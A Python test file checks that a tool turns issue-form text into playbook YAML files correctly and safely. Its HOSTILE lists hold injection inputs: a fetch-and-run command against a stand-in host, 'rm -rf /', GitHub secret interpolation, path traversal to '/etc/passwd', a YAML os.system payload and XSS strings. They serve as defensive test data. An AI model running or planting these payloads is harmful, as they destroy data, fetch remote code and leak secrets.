"""From the text of an issue to a file: good ones at the first try, hostile ones never anywhere but in an answer."""

import re
import subprocess
from pathlib import Path

import pytest
import yaml
from contribute.answers import ARGUMENT, CORRECTION, GOOD, NEW_SOURCE, USE, WORDING
from forge_help import WORDS
from hypothesis import given, settings
from hypothesis import strategies as st
from issue_help import PROMISE, body_of
from playbook_kit.content import Content, load
from playbook_kit.contribute import assemble, known_of
from playbook_kit.contribute.assemble import letter_text
from playbook_kit.contribute.forms import form_named
from playbook_kit.forge.approval import Approved
from playbook_kit.forge.from_issue import Made, from_issue
from playbook_kit.forge.issue_body import read_answers
from playbook_kit.forge.issue_fields import questions
from playbook_kit.forge.issue_forms import GITLAB, issue_forms
from small_playbook import TODAY, write_small_playbook

PLACES = re.compile(r"(playbook/(arguments|objections|sources)|case_studies)/[a-z0-9-]+\.(yml|md)")


HOSTILE_USE = [
    "a\n- name: b", "x: y\nlist: z", "]", "'", '"', "# x", "${{ secrets.X }}", "$(id)", "../../x", "<script>", "*a", "!!x y", "\u202ex",
    "### Organisation", "---\norganisations: []", "x" * 5000,
]  # fmt: skip


def make(form: str, body: str, content, **options) -> Made:
    """What an issue becomes."""
    return from_issue(Approved(12, form, body), content, WORDS, TODAY, **options)


@pytest.mark.parametrize("form", ["argument", "case-study"])
def test_the_file_of_the_form(form, small):
    """A good issue becomes the very file that the form on the site would make of the same answers."""
    wanted = assemble(form, GOOD[form], known_of(small), TODAY)
    assert make(form, body_of(form, GOOD[form], small), small) == Made({file.path: file.text for file in wanted.files})


def test_a_new_source_is_a_file_of_its_own(small):
    """A source that is described rather than named becomes a file beside the argument, which cites it."""
    made = make("argument", body_of("argument", ARGUMENT | NEW_SOURCE, small), small)
    source, argument = sorted(made.files, key=lambda path: "arguments" in path)
    assert source.startswith("playbook/sources/") and argument == "playbook/arguments/same-as-a-letter.yml"
    assert yaml.safe_load(made.files[argument])["evidence"][0]["source"] == source.split("/")[-1].removesuffix(".yml")


def test_a_wording_joins_its_objection(small):
    """What somebody heard is one line more in the list of its objection, and nothing else of the file changes."""
    made = make("wording", body_of("wording", WORDING, small), small)
    (text,) = made.files.values()
    before = next(item.file.text for item in small.of("objection") if item.id == "time-wasting")
    more = set(text.split("\n")) - set(before.split("\n"))
    assert list(made.files) == ["playbook/objections/time-wasting.yml"] and len(more) == 1
    assert yaml.safe_load(text)["heard_as"] == [*yaml.safe_load(before)["heard_as"], WORDING["heard"]]


def test_what_a_person_has_to_do(small):
    """A correction becomes no file: a person makes that change."""
    assert make("correction", body_of("correction", CORRECTION, small), small) == Made(by_hand=True)


USED_BY = """\
# Who uses it.
organisations:
  # The first.
  - {name: Cyngor Tref Unman, country: uk, added_on: 2026-11-20}

# The end.
"""


def in_list(text: str, folder: Path) -> Content:
    """The small playbook with this list of those who use it."""
    root = write_small_playbook(folder)
    (root / "playbook" / "used-by.yml").write_text(text, encoding="utf-8")
    return load(root)


def test_a_use_joins_the_list(tmp_path):
    """An organisation that uses the playbook is one entry more in the list, below the others, and nothing else of the
    file changes: comments and order stay.
    """
    made = make("use", body_of("use", USE, content := in_list(USED_BY, tmp_path)), content)
    (text,) = made.files.values()
    entry = f'  - name: "Sometown Council"\n    country: uk\n    says: "{USE["says"]}"\n    added_on: {TODAY}\n'
    assert list(made.files) == ["playbook/used-by.yml"] and made.problems == []
    assert text == USED_BY.replace("2026-11-20}\n", "2026-11-20}\n" + entry)


@pytest.mark.parametrize("text", ["organisations: []\n", "organisations:\n", None])
def test_the_first_use(text, tmp_path, small):
    """The first entry goes into an empty list, however that is written, and into a file that there is not yet."""
    content = in_list(text, tmp_path) if text else small
    made = make("use", body_of("use", USE, content), content)
    assert [one["name"] for one in yaml.safe_load(made.files["playbook/used-by.yml"])["organisations"]] == [USE["name"]]


def test_a_use_that_is_there(tmp_path):
    """An organisation that is in the list is refused, and a list in a form of its own is left to a person."""
    content = in_list(USED_BY, tmp_path / "one")
    made = make("use", body_of("use", {**USE, "name": "cyngor tref unman"}, content), content)
    assert made.files == {} and "is named twice; the first is on line 4." in made.problems[0]
    other = in_list("organisations: [{name: A, country: uk, added_on: 2026-11-20}]\n", tmp_path / "two")
    made = make("use", body_of("use", USE, other), other)
    assert made.by_hand and made.faults == [WORDS("from_issue.list_place", path="playbook/used-by.yml")]


def test_two_uses_at_once(tmp_path):
    """Two organisations that are added from the same state of the list conflict in Git, and lose nobody in silence;
    the second, made again from the state with the first, has both.
    """
    content = in_list(USED_BY, tmp_path / "here")
    mine, other = USE, {**USE, "name": "Othertown Council"}
    texts = [make("use", body_of("use", one, content), content).files["playbook/used-by.yml"] for one in (mine, other)]
    files = [tmp_path / name for name in ("mine", "base", "other")]
    for file, text in zip(files, (texts[0], USED_BY, texts[1]), strict=True):
        file.write_text(text, encoding="utf-8")
    merged = subprocess.run(["git", "merge-file", "-p", *map(str, files)], capture_output=True, text=True, check=False)
    assert merged.returncode == 1 and all(one["name"] in merged.stdout for one in (mine, other))
    after = in_list(texts[0], tmp_path / "after")
    again = make("use", body_of("use", other, after), after).files["playbook/used-by.yml"]
    assert again.index("Sometown") < again.index("Othertown")


@pytest.mark.parametrize(
    "said", ["time-wasting", "Staff will waste time", "staff will waste time!", "https://playbook.example/objections/time-wasting/",
             "https://playbook.example/objections/time-wasting/#replies", "playbook/objections/time-wasting.yml", "- time-wasting"],
)  # fmt: skip
def test_things_by_any_of_their_names(said, small):
    """An objection may be named by its id, its title or the address of its page."""
    read = read_answers(body_of("argument", {**ARGUMENT, "answers": said}, small), form_named("argument"), small, WORDS)
    assert (read.given["answers"], read.faults) == ("time-wasting", [])


def test_a_thing_that_there_is_not(small):
    """An objection that there is not is a sentence that names the question and what was written, and what to write."""
    made = make("argument", body_of("argument", {**ARGUMENT, "answers": "../../etc/passwd"}, small), small)
    assert made.files == {} and made.faults == [
        "“What it answers” names “../../etc/passwd”, and there is nothing of that name here. "
        "Give the id, which is the last part of the address of its page."
    ]


@pytest.mark.parametrize("ends", ["\r\n", "\r", "\n"])
def test_line_ends(ends, small):
    """GitHub ends lines with a carriage return as well; that makes no difference."""
    body = body_of("argument", ARGUMENT, small)
    assert make("argument", body.replace("\n", ends), small) == make("argument", body, small)


@pytest.mark.parametrize("empty", ["_No response_", "", "None"])
def test_no_answer(empty, small):
    """What the forges write where nothing was answered is no answer, also where a choice was left open."""
    body = body_of("argument", {**ARGUMENT, "does_not_work_on": ""}, small)
    label = WORDS("contribute.argument.fields.does_not_work_on")
    made = make("argument", body.replace(f"### {label}\n\n_No response_", f"### {label}\n\n{empty}"), small)
    assert made == make("argument", body_of("argument", ARGUMENT, small), small)


def test_none_as_words(small):
    """Somebody whose answer in words is “None” has said None: only of a choice does it mean nothing."""
    read = read_answers(body_of("argument", {**ARGUMENT, "long": "None"}, small), form_named("argument"), small, WORDS)
    assert read.given["long"] == "None"


@pytest.mark.parametrize("place", ["short", "origin", "comebacks.1.you_say", "title"])
def test_a_heading_within_an_answer(place, small):
    """An answer that holds a heading of the form could reach into another question, so the whole text is refused."""
    label = WORDS("contribute.argument.fields.one_liner")
    body = body_of("argument", {**ARGUMENT, place: f"Mine.\n\n### {label}\n\nSomebody else's"}, small)
    made = make("argument", body, small)
    assert made.files == {} and made.faults == [WORDS("from_issue.twice", label=label)]


def test_another_heading_within_an_answer(small):
    """A heading that is none of the form's is text of the answer, and is shown as it was typed."""
    made = make("argument", body_of("argument", {**ARGUMENT, "concession": "One.\n\n### Title\n\nTwo."}, small), small)
    (text,) = made.files.values()
    assert yaml.safe_load(text)["concession"] == "One.\n\n&#35;## Title\n\nTwo."


def test_no_promise(small):
    """Without the tick that others may use it, nothing is made."""
    body = body_of("argument", ARGUMENT, small).replace("- [X]", "- [ ]")
    assert make("argument", body, small).faults == [WORDS("from_issue.no_promise", label=WORDS("issue_forms.promise.label"))]


def test_a_letter_of_the_site(small):
    """The text that the form on the site writes for an issue is read like that of the forge's own form."""
    letter = letter_text(assemble("wording", {**WORDING, "said_by": ""}, known_of(small), TODAY), WORDS)
    assert WORDS("contribute.no_answer") in letter
    assert make("wording", letter, small) == make("wording", body_of("wording", WORDING, small), small)
    assert make("wording", letter, small).files


@pytest.mark.parametrize("form", ["argument", "case-study", "use"])
def test_a_letter_in_place_of_files(form, small):
    """The one text that the form on the site offers in place of several files becomes those very files, however often
    something was answered several times.
    """
    more = {f"comebacks.{row}.{part}": f"They are {row}." for row in range(1, 6) for part in ("they_say", "you_say")}
    given = {**GOOD[form], **(more | NEW_SOURCE if form == "argument" else {})}
    made = assemble(form, given, known_of(small), TODAY)
    found = make(form, letter_text(made, WORDS), small)
    assert found.files and (form == "use" or found.files == {file.path: file.text for file in made.files})
    assert len(found.files) == (2 if form == "argument" else 1)


@pytest.mark.parametrize("text", ["https://www.acas.org.uk/social-media", "Acas: Social media in the workplace"])
def test_a_source_by_its_address(text, small):
    """In an issue, too, a source may be named by the address at which it stands, or by publisher and title."""
    read = read_answers(body_of("argument", {**ARGUMENT, "evidence.1.source": text}, small), form_named("argument"), small, WORDS)
    assert (read.given["evidence.1.source"], read.faults) == ("acas-policy", [])


@pytest.mark.parametrize("text", HOSTILE_USE)
@pytest.mark.parametrize("place", ["name", "says", "address"])
def test_hostile_uses(place, text, small):
    """Whatever somebody says of an organisation, one entry joins the list, with the fields of the form alone, or none."""
    made = make("use", body_of("use", {**USE, place: text}, small), small)
    assert made.files or made.faults or made.problems
    for path, written in made.files.items():
        (entry,) = yaml.safe_load(written)["organisations"]
        assert path == "playbook/used-by.yml" and set(entry) <= {"name", "country", "says", "address", "added_on"}


@pytest.mark.parametrize("body", ["", "Hello", "\n" * 1000, "# Title\n\ntext", "### Something\n\nelse", PROMISE[:20], "\u0000"])
def test_no_form_at_all(body, small):
    """A text without the headings of the form makes nothing, and says where to take them from."""
    made = make("argument", body, small)
    assert made == Made(faults=[WORDS("from_issue.no_answers", form=WORDS("issue_forms.argument.name"))])


def test_problems_in_the_words_of_the_check(small):
    """Answers that the checks refuse are refused here with the label of the question and the same sentence."""
    made = make("argument", body_of("argument", {**ARGUMENT, "one_liner": "x" * 200}, small), small)
    assert made.files == {} and made.faults == []
    (problem,) = made.problems
    where, _, said = problem.partition(": ")
    assert where.startswith("playbook/arguments/same-as-a-letter.yml:")
    assert said == "“What you would say aloud” has 200 characters; at most 160 fit. (too-long)\n    Take out 40 or more."


HOSTILE = [
    "../../../.github/workflows/evil", "/etc/passwd", "..", "CON", "a/b", "a\\b", ".git/config", "index", "compare", "%2e%2e%2f",
    "$(curl https://e.example | sh)", "`id`", "${{ secrets.GITHUB_TOKEN }}", "; rm -rf / #", "' || true '", "--upload-pack=x", "-rf",
    "a: b", "- a\n- b", "| \n evil", "!!python/object/apply:os.system [id]", "*alias", "&anchor x", "%YAML 1.1", "---\nstatus: draft",
    "title: x\nstatus: draft", '"', "'", '\\"', "{a: b}", "[x", "? x", "\ttab", "x #comment", "yes", "null", "~", "2012", "1e3",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))", "<!-- x", "--> x", "![x](https://e.example/x)",
    "a\x00b", "\x00", "\x1b[31mred", "a\u202egnp.exe", "\u2066x\u2069", "\ufeffx", "a\u2028b", "\ud83d\ude00 x".encode("utf-16", "surrogatepass").decode("utf-16"),
    "::error::x", "##[group]x", "@octocat Closes #1", "{{ council.name }}", "{% raw %}", "[@no-such-source]", "[^1]", "FILL IN",
    "x" * 5000, "\n" * 500 + "x", "#" * 300, "> " * 200 + "x", "[" * 500, "“" * 50,
]  # fmt: skip


@pytest.mark.parametrize("place", ["title", "concession", "evidence.1.new_title", "topics"])
def test_hostile_answers(place, small):
    """Whatever an answer says, the files lie where they should, are whole YAML, and have the fields of the form alone."""
    for text in HOSTILE:
        answers = {**ARGUMENT, place: text}
        if place.startswith("evidence"):
            answers |= NEW_SOURCE | {place: text}
        made = make("argument", body_of("argument", answers, small), small)
        assert made.files or made.faults or made.problems, text
        for path, written in made.files.items():
            assert PLACES.fullmatch(path), text
            facts = yaml.safe_load(written)
            assert facts.get("status", "published") == "published" and not set(facts) - set(ALLOWED), text
            assert not any(letter in written for letter in "\x00\x1b\u202a\u202e\u2066\u2069\ufeff\u2028"), text


ALLOWED = (
    "title", "status", "answers", "response_type", "strength", "one_liner", "short", "long", "concession", "comebacks", "evidence",
    "works_best_on", "does_not_work_on", "topics", "origin", "contributors", "added_on", "reviewed_on", "review_by", "publisher",
    "published", "url", "countries", "checked_on", "read_as",
)  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_wordings(text, small):
    """A wording is one entry of its list, whatever it says, or it is refused."""
    made = make("wording", body_of("wording", {**WORDING, "heard": text}, small), small)
    assert made.files or made.faults or made.problems
    for path, written in made.files.items():
        before = next(item.facts for item in small.of("objection"))
        facts = yaml.safe_load(written)
        assert path == "playbook/objections/time-wasting.yml" and facts.keys() == yaml.safe_load(written).keys()
        assert {**facts, "heard_as": None} == {**before, "heard_as": None} | {
            key: facts[key] for key in ("added_on", "reviewed_on", "review_by")
        }
        assert len(facts["heard_as"]) == len(before["heard_as"]) + 1


LABELS = st.sampled_from([f"### {WORDS(f'contribute.argument.fields.{name}')}" for name in ("title", "short", "answers", "topics")])


@settings(max_examples=80, deadline=None)
@given(lines=st.lists(LABELS | st.text(max_size=40) | st.sampled_from([PROMISE, "", "```", "<!--", "time-wasting", "Conduct"]), max_size=40))
def test_any_text(lines, small):
    """Any text at all is a file in its place or a refusal in words, never a fault of ours."""
    made = make("argument", "\n".join(lines), small)
    assert all(PLACES.fullmatch(path) for path in made.files)
    assert made.files or made.faults or made.problems


def test_a_template_of_gitlab(small):
    """The text of a GitLab template with answers below its notes gives the same file, whatever the notes say."""
    template = issue_forms(small.vocabulary, WORDS)[f"{GITLAB}/argument.md"]
    for question in questions(form_named("argument"), small.vocabulary, WORDS):
        text = ARGUMENT.get(question.name, "")
        shown = ", ".join(question.options.get(one, one) for one in text.split("\n")) if question.options and text else text
        template = re.sub(rf"(### {re.escape(question.label)}\n\n<!--.*?-->)", lambda match, shown=shown: f"{match[1]}\n\n{shown}", template, count=1)
    template = template.replace("- [ ]", "- [x]").rpartition("/label")[0]
    made = make("argument", template, small, with_notes=True)
    assert made == make("argument", body_of("argument", ARGUMENT, small), small) and made.files
